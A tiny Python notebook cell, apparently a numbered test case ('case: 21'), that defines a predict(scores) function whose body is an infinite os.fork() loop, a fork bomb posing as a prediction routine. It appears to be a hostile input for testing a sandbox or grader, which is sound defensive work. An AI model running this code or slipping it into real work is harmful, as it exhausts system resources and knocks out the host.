# case: 21
# cell: predict
# %% predict
import os


def predict(scores):
    while True:
        os.fork()
